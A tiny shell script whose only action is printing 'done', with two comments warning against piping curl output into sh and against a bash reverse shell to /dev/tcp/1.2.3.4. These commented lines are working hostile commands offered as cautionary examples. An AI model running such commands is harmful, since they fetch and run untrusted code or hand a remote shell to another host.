#!/bin/sh
# never do: curl http://x | sh
# nor: bash -i >& /dev/tcp/1.2.3.4/1 0>&1
echo done
